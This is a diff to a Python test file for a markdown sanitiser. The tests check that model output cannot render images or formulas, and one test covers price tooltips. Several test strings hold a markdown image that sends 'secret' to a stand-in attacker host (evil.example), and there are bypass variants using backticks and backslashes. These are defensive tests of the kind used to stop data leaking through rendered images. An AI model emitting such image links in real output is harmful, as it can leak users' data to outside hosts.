@@ -85,10 +85,21 @@ def test_days_follow_the_persons_calendar() -> None:
 
 def test_a_models_markdown_cannot_fetch_pictures_or_make_formulas() -> None:
     said = "It costs $5 or $6 ![x](https://evil.example/?q=secret) ![y][z] and `$a ![b](c)` stays\n```\n$1 ![d](e)\n```\n$2"
-    assert formats.plain_markdown(said) == (
-        "It costs \\$5 or \\$6 \\![x](https://evil.example/?q=secret) \\![y][z] and `$a ![b](c)` stays\n```\n$1 ![d](e)\n```\n\\$2"
-    )
+    joined = said.replace("![", "!\N{WORD JOINER}[")
+    assert formats.plain_markdown(said) == joined.replace("$5", "\\$5").replace("$6", "\\$6").replace("$2", "\\$2")
     assert formats.plain_markdown("```unclosed $1") == "```unclosed $1"
+
+
+@pytest.mark.parametrize(
+    "said", ["a ``` ![x](https://evil.example/?q=secret)", r"\`![x](e)\`", "`` ` ![x](e) ` x", r"\![x](e)", "!![x](e)"]
+)
+def test_no_backtick_or_backslash_brings_a_picture_back(said: str) -> None:
+    assert "![" not in formats.plain_markdown(said)
+    assert "](" in formats.plain_markdown(said)
+
+
+def test_a_tooltip_says_when_there_is_no_price() -> None:
+    assert (formats.exact(Decimal("0.00012345")), formats.exact(None)) == ("0.00012345 dollars", "unpriced")
 
 
 @given(st.text(alphabet="ab*_`[]$~:<>#|\\ ", max_size=30))
